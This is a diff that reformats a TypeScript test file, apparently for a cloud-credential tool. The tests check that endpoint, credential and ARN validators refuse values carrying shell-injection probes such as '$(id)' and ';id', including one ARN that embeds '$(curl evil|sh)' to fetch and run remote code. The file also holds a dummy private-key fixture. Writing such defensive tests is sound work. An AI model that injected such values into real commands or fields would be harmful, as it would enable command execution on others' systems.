@@ -12,7 +12,26 @@ import { isApiEndpoint, isArn } from '../../../src/core/safety/server-values.js'
 import { assumeRoleWithWebIdentity, lookupCallerIdentity, StsBadAnswer } from '../../../src/core/sts/sts.js';
 
 /** What a shell would act on, each inside an otherwise ordinary value. */
-const SHELL = ['$(id)', '`id`', ';id', '|id', '&id', '{a,b}', ' id', '\tid', '${HOME}', "'", '"', '\\', '>x', '<x', '*', '?', '!', '#'];
+const SHELL = [
+  '$(id)',
+  '`id`',
+  ';id',
+  '|id',
+  '&id',
+  '{a,b}',
+  ' id',
+  '\tid',
+  '${HOME}',
+  "'",
+  '"',
+  '\\',
+  '>x',
+  '<x',
+  '*',
+  '?',
+  '!',
+  '#',
+];
 
 describe('api_endpoint', () => {
   it.each([
@@ -47,10 +66,16 @@ describe('api_endpoint', () => {
     expect(isApiEndpoint(value)).toBe(false);
   });
 
-  const KEY = '-----BEGIN PRIVATE KEY-----\nMIGHAgEAMBMGByqGSM49AgEGCCqGSM49AwEHBG0wawIBAQQg\n-----END PRIVATE KEY-----\n';
+  const KEY =
+    '-----BEGIN PRIVATE KEY-----\nMIGHAgEAMBMGByqGSM49AgEGCCqGSM49AwEHBG0wawIBAQQg\n-----END PRIVATE KEY-----\n';
   const encode = (value: unknown): string => Buffer.from(JSON.stringify(value)).toString('base64');
   const credential = (apiEndpoint: string): string =>
-    encode({ mrn: '//agents.api.mondoo.app/spaces/s/serviceaccounts/1', private_key: KEY, certificate: 'c', api_endpoint: apiEndpoint });
+    encode({
+      mrn: '//agents.api.mondoo.app/spaces/s/serviceaccounts/1',
+      private_key: KEY,
+      certificate: 'c',
+      api_endpoint: apiEndpoint,
+    });
 
   it('refuses a credential whose api_endpoint a shell would act on, quoting it escaped (MONDOO_BAD_RESPONSE)', () => {
     for (const decode of [decodeCredential, decodeTokenResponse]) {
@@ -114,7 +139,9 @@ describe('ARNs', () => {
     lookupCallerIdentity(answering(body), KEYS, TARGET, new Date('2026-03-01T12:00:00Z'), 5000, () => undefined);
 
   it('GetCallerIdentity: refuses an Arn or Account a shell would act on, quoting it escaped (STS_FAILED)', async () => {
-    const err = await lookup(identityXml('arn:aws:iam::123456789012:user/$(curl evil|sh)&amp;{x}')).catch((e: unknown) => e);
+    const err = await lookup(identityXml('arn:aws:iam::123456789012:user/$(curl evil|sh)&amp;{x}')).catch(
+      (e: unknown) => e,
+    );
     expect(err).toBeInstanceOf(StsBadAnswer);
     expect((err as AuthError).code).toBe('STS_FAILED');
     expect((err as AuthError).message).toBe(
@@ -124,7 +151,9 @@ describe('ARNs', () => {
     );
     const account = await lookup(identityXml('arn:aws:iam::123456789012:user/x', '1234;id')).catch((e: unknown) => e);
     expect(account).toBeInstanceOf(StsBadAnswer);
-    expect((account as AuthError).message).toContain('an Account that is not a 12-digit account ID: "1234;id". Nothing was exported.');
+    expect((account as AuthError).message).toContain(
+      'an Account that is not a 12-digit account ID: "1234;id". Nothing was exported.',
+    );
     expect(await lookup(identityXml(ASSUMED))).toEqual({ arn: ASSUMED, accountId: '123456789012' });
   });
 
@@ -142,15 +171,18 @@ describe('ARNs', () => {
       target: TARGET,
       timeoutMs: 4000,
     };
-    const err = await assumeRoleWithWebIdentity(answering(answer('arn:aws:sts::123456789012:assumed-role/mondoo-ci/`id` x')), params).catch(
-      (e: unknown) => e,
-    );
+    const err = await assumeRoleWithWebIdentity(
+      answering(answer('arn:aws:sts::123456789012:assumed-role/mondoo-ci/`id` x')),
+      params,
+    ).catch((e: unknown) => e);
     expect(err).toBeInstanceOf(StsBadAnswer);
     expect((err as AuthError).code).toBe('STS_FAILED');
     expect((err as AuthError).message).toContain(
       'STS AssumeRoleWithWebIdentity for arn:aws:iam::123456789012:role/mondoo-ci answered with an assumed-role Arn that is not one (arn:partition:',
     );
-    expect((err as AuthError).message).toContain('"arn:aws:sts::123456789012:assumed-role/mondoo-ci/`id` x". Nothing was exported.');
+    expect((err as AuthError).message).toContain(
+      '"arn:aws:sts::123456789012:assumed-role/mondoo-ci/`id` x". Nothing was exported.',
+    );
     expect((await assumeRoleWithWebIdentity(answering(answer(ASSUMED)), params)).identity).toEqual({
       arn: ASSUMED,
       accountId: '123456789012',
